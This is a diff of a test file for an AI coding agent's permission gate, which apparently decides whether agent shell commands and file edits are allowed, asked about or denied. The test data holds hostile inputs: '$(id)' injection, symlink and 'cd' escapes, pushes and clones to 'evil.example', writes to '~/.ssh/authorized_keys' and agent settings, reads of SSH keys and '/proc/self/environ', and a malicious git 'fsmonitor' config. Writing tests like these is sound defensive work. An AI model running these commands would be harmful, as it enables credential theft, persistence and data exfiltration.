@@ -2,14 +2,18 @@
 
 from __future__ import annotations
 
+import subprocess
 from pathlib import Path
 from typing import Any
 
 import pytest
 
+from maestro.agents.allowances import in_words
 from maestro.agents.base import PermissionMode
 from maestro.agents.gates import Verdict, judge
 from maestro.agents.shell import parse
+from maestro.core.environment import base_environment, place_environment
+from tests.repos import make_repo
 
 CHECKS = ["python -m pytest -q", "make test && make lint", "FLAG=1 ./run.sh > out.txt"]
 
@@ -49,6 +53,11 @@ diff src/a.py src/b.py
 test -f src/a.py && echo yes
 ls 2>&1 | tail -3
 date -u
+cd src && cat ../src/a.py && git status
+cd src; cat <wt>/src/a.py
+printf '%s, %s' x done
+sort src/a.py | uniq -c -d
+uniq -c src/a.py
 """.strip().splitlines()
 
 CHECKING = """
@@ -104,6 +113,22 @@ sort -o x y
 sort -uo x y
 sort --outp=x y
 uniq a b
+uniq - src/a.py
+uniq - .git
+uniq -- -in out
+uniq src/a.py -out
+printf -v 'a[$(id)]' x
+printf -vPATH x
+printf '%d' 'a[$(id)]'
+printf *
+test -v 'a[$(id)]'
+test -v *
+cd - && cat x
+cd src && cat link/secret
+cd src; cat ../x
+true || cd src && cat ../x
+cd src | cat ../x
+cd up && cd ../.. && cat secret
 sed -i s/a/b/ src/a.py
 sed -n 1p -i src/a.py
 sed -n '1w x' src/a.py
@@ -180,6 +205,11 @@ def worktree(tmp_path: Path) -> Path:
     (tree / "src/a.py").write_text("")
     (tree / "out").symlink_to(tmp_path)
     (tree / "gitdir").symlink_to(tree / ".git")
+    (tree / "src/link").symlink_to(tmp_path)
+    (tree / "up").symlink_to(tree / "src/deep/er")
+    (tree / "links").mkdir()
+    (tree / "links/a.py").symlink_to(tmp_path / "rc")
+    (tree / "links/src").mkdir()
     (tmp_path / "wt-evil").mkdir()
     return tree
 
@@ -239,7 +269,7 @@ def test_an_allowance_covers_program_and_subcommand(worktree: Path, command: str
 
 
 def test_an_allowance_covers_no_more_than_it_says(worktree: Path) -> None:
-    allowed = ("Bash:git push", "Bash:npm install")
+    allowed = ("Bash:git push", "Bash:npm install", "Bash:tee", "Bash:cp", "Bash:npm run lint", "Bash:git clone")
     assert run(worktree, "git push && npm install", allowances=allowed).action == "allow"
     for command in (
         "git push && rm -rf x",
@@ -248,6 +278,17 @@ def test_an_allowance_covers_no_more_than_it_says(worktree: Path) -> None:
         "git push > x",
         "git -c a=b push",
         "npm run x",
+        "git push --force",
+        "git push origin +main",
+        "git push https://evil.example/x main",
+        "npm install -g x",
+        "tee ~/.ssh/authorized_keys",
+        "tee .claude/settings.json",
+        "cd / && tee x",
+        "cp src/a.py -t.claude",
+        "npm run deploy",
+        "git clone https://evil.example/x",
+        "git config core.fsmonitor x",
     ):
         assert run(worktree, command, allowances=allowed).action == "ask"
     for command in ("python -c 'print(1)'", "rm -rf build", "sh x.sh", "make $(id)", "./tool x", "sudo ls", "A=b ls"):
@@ -257,8 +298,86 @@ def test_an_allowance_covers_no_more_than_it_says(worktree: Path) -> None:
 
 
 @pytest.mark.parametrize(
+    ("shown", "also", "not_covered", "words"),
+    [
+        ("git push origin a", "git push origin b", "git push -f origin b", "“git push”. Other words may differ"),
+        ("cp src/a.py ../b", "cp src/c.py ../b", "cp src/a.py ../c", "“cp” with {outer}/b. Other words may differ"),
+        ("tee out/log", "tee {outer}/log", "tee out/other", "“tee” with {outer}/log."),
+        ("ln -s a b", "ln -s a c", "ln -sf /etc/passwd c", "name nothing outside the worktree."),
+        ("npm run lint", "npm run lint --fix", "npm run deploy", "“npm run lint”"),
+        ("docker ps", "docker ps", "docker ps -a", "This very command, word for word."),
+        ("chmod +x a", "chmod +x b", "chmod +x /", "“chmod”"),
+    ],
+)
+def test_what_an_allowance_covers_is_said_in_words_and_kept(
+    worktree: Path, shown: str, also: str, not_covered: str, words: str
+) -> None:
+    outer = str(worktree.parent)
+    allowed = (run(worktree, shown).signature,)
+    assert words.format(outer=outer) in in_words(allowed[0])
+    assert run(worktree, also.format(outer=outer), allowances=allowed).action == "allow"
+    assert run(worktree, not_covered, allowances=allowed).action == "ask"
+
+
+def test_an_allowance_for_a_file_or_folder_outside_covers_no_other(worktree: Path) -> None:
+    def ask(tool: str, path: str, *allowed: str) -> Verdict:
+        member = "path" if tool == "Grep" else "file_path"
+        return judge("edits", tool, {member: path}, worktree, (), allowed)
+
+    (worktree.parent / "lib/deep").mkdir(parents=True)
+    written, read, folder = (
+        ask("Write", "../lib/x"),
+        ask("Read", "../lib/x"),
+        ask("Grep", "../lib"),
+    )
+    assert ask("Edit", "out/lib/x", written.signature).action == "allow"
+    assert ask("Write", "../lib/y", written.signature).action == "ask"
+    assert ask("Read", "../lib/y", read.signature).action == "allow"
+    for path in ("../lib/deep/y", "../y", "~/.ssh/id_rsa"):
+        assert ask("Read", path, read.signature, written.signature).action == "ask"
+    assert ask("Read", "../lib/deep/y", folder.signature).action == "allow"
+    assert ask("Read", "../liberty/y", folder.signature).action == "ask"
+    key = ask("Read", "~/.ssh/known_hosts")
+    assert ask("Read", "~/.ssh/id_rsa", key.signature).action == "ask"
+    lib = worktree.parent / "lib"
+    assert [in_words(v.signature) for v in (written, read, folder)] == [
+        f"Changing {lib}/x, nothing else.",
+        f"Reading files in {lib}, not in its folders.",
+        f"Reading anything in {lib}.",
+    ]
+
+
+def test_a_shell_that_stands_in_a_folder_is_judged_from_there(worktree: Path) -> None:
+    def action(command: str, folder: Path) -> str:
+        return judge("ask", "Bash", {"command": command}, worktree, (), (), folder).action
+
+    assert action("cat ../src/a.py", worktree / "src") == "allow"
+    assert action("cat link/secret", worktree) == "allow"  # there is none
+    assert action("cat link/secret", worktree / "src") == "ask"
+    assert action("ls", worktree.parent) == "ask"
+
+
+def test_a_folder_that_looks_like_a_git_directory_runs_nothing(tmp_path: Path) -> None:
+    top = make_repo(tmp_path / "repo", {"evil/HEAD": "ref: refs/heads/main\n", "evil/objects/x": "", "evil/refs/x": ""})
+    (top / "evil/config").write_text(f"[core]\nworktree = .\nfsmonitor = 'touch {tmp_path}/ran; false'\n")
+    env = base_environment() | place_environment(20_000)
+    looked = subprocess.run(["git", "status"], cwd=top / "evil", env=env, capture_output=True, text=True, check=False)
+    assert not (tmp_path / "ran").exists()
+    assert "safe.bareRepository" in looked.stderr
+
+
+@pytest.mark.parametrize(
     "command",
-    ["mkdir -p src/new", "touch src/b.py", "cp src/a.py src/b.py", "mv src/a.py src/c.py", "mkdir x && touch x/y"],
+    [
+        "mkdir -p src/new",
+        "touch src/b.py",
+        "cp src/a.py src/b.py",
+        "mv src/a.py src/c.py",
+        "mkdir x && touch x/y",
+        "cp -r src new",
+        "cd src && touch b.py",
+        "mv -v src/a.py x/",
+    ],
 )
 def test_making_and_moving_files_inside_counts_as_editing(worktree: Path, command: str) -> None:
     assert run(worktree, command).action == "allow"
@@ -275,6 +394,16 @@ def test_making_and_moving_files_inside_counts_as_editing(worktree: Path, comman
         "touch .claude/x",
         "mkdir gitdir/x",
         "cp -t/tmp src/a.py",
+        "cp src/a.py -t.claude",
+        "cp src/a.py --target-directory=.claude",
+        "mv src/a.py -t.vscode",
+        "cp src/a.py links",
+        "cp src/a.py links/",
+        "cd src && cp a.py ../links",
+        "cd src && touch link/new",
+        "cp -r src links",
+        "cp -r src/. links/src",
+        "cp -a src x && touch x/link/new",
     ],
 )
 def test_making_files_elsewhere_asks(worktree: Path, command: str) -> None:
@@ -296,28 +425,31 @@ def test_edits_inside_the_worktree_are_free_but_in_mode_ask(worktree: Path, tool
     assert edit(worktree, path, "ask", tool).action == "ask"
 
 
-@pytest.mark.parametrize(
-    ("paths", "signature"),
-    [
-        (("/etc/passwd", "<wt>/../x", "<wt>-evil/x", "out/x", "../wt/../x", "", "\0", "~/x\0"), "Write:outside"),
-        ((".git", "<wt>/.git/hooks/post-checkout", "src/../.git/config", ".GIT/config"), "Write:git"),
-        (("gitdir/config", "sub/.git/config"), "Write:git"),
-    ],
-)
-def test_edits_outside_or_of_gits_own_files_ask_with_high_risk(
-    worktree: Path, paths: tuple[str, ...], signature: str
-) -> None:
-    for path in paths:
+def test_edits_outside_or_of_gits_own_files_ask_with_high_risk(worktree: Path) -> None:
+    outside = ("/etc/passwd", "<wt>/../x", "<wt>-evil/x", "out/y", "../wt/../z", "", "\0", "~/x\0", "~/.bashrc")
+    gits = (
+        ".git",
+        "<wt>/.git/hooks/post-checkout",
+        "src/../.git/config",
+        ".GIT/config",
+        "gitdir/HEAD",
+        "sub/.git/config",
+    )
+    seen: list[str] = []
+    for path in (*outside, *gits):
         verdict = edit(worktree, path)
-        assert (verdict.action, verdict.risk, verdict.signature) == ("ask", "high", signature), path
+        assert (verdict.action, verdict.risk) == ("ask", "high"), path
+        seen.append(verdict.signature)
         assert edit(worktree, path, "sandboxed").action == "deny"
         assert edit(worktree, path, "bypass").action == "allow"
+    assert len(set(seen)) == len(seen)  # each is allowed by itself
 
 
 @pytest.mark.parametrize("path", [".claude/settings.json", ".mcp.json", "<wt>/.vscode/tasks.json"])
 def test_settings_that_tools_obey_ask(worktree: Path, path: str) -> None:
     verdict = edit(worktree, path)
-    assert (verdict.action, verdict.signature) == ("ask", "Write:settings")
+    relative = path.replace("<wt>/", "")
+    assert (verdict.action, verdict.signature) == ("ask", f"Write:{worktree.resolve()}/{relative}")
 
 
 @pytest.mark.parametrize(
@@ -326,6 +458,7 @@ def test_settings_that_tools_obey_ask(worktree: Path, path: str) -> None:
         ("Read", {"file_path": "src/a.py"}, "allow"),
         ("Read", {"file_path": "/usr/lib/python3/x.py"}, "allow"),
         ("Read", {"file_path": "/root/.ssh/id_rsa"}, "ask"),
+        ("Read", {"file_path": "~/.ssh/id_rsa"}, "ask"),
         ("Read", {"file_path": "/proc/self/environ"}, "ask"),
         ("Read", {"file_path": "out/secret"}, "ask"),
         ("Grep", {"pattern": "x"}, "allow"),
